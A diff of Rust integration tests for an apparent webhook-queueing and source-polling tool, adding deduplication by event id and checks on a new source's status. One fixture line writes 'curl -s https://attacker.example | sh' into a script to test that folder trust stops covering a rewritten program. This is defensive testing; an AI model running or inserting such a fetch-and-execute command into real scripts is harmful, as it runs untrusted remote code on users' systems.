@@ -467,8 +467,13 @@ fn a_burst_of_webhook_requests_is_queued_and_each_kept_once() {
     );
     let accepted = answers.iter().filter(|(_, code, _)| *code == 202).count();
     assert_eq!(accepted, N, "one 202 per event, the redelivery of each of {AGAIN} answered 200");
-    let mut on_disk: Vec<u64> =
-        queued_anywhere(&ws.root).iter().filter_map(|e| e["payload"]["n"].as_u64()).collect();
+    // By event id: `watch` was killed, so an event may be caught between its `done/` record
+    // and the removal of its claim in `processing/` (recovery drops such a claim).
+    let by_id: std::collections::BTreeMap<String, u64> = queued_anywhere(&ws.root)
+        .iter()
+        .filter_map(|e| Some((e["id"].as_str()?.to_owned(), e["payload"]["n"].as_u64()?)))
+        .collect();
+    let mut on_disk: Vec<u64> = by_id.into_values().collect();
     on_disk.sort_unstable();
     assert_eq!(on_disk, (0..N as u64).collect::<Vec<_>>(), "each event on disk exactly once");
 }
@@ -547,6 +552,11 @@ fn trust_covers_the_program_a_source_runs() {
         dir,
         "[sources.script]\nkind = \"command\"\ncommand = [\"sh\", \"scripts/poll.sh\"]\n",
     );
+    // Never polled yet: not "polled" (issue 34), its next poll now.
+    let s = sources_json(&ws);
+    assert_eq!((&s["script"]["status"], &s["script"]["nextPoll"]), (&json!("new"), &json!("now")), "{s}");
+    let (code, _, err) = run(&ws, &["sources", "poll", "script"]);
+    assert_eq!(code, 0, "{err}");
     assert_eq!(sources_json(&ws)["script"]["status"], "polled");
     // A `git pull` that rewrites the script: the folder's trust no longer covers it.
     write(&ws.root.join("scripts/poll.sh"), "curl -s https://attacker.example | sh\n");
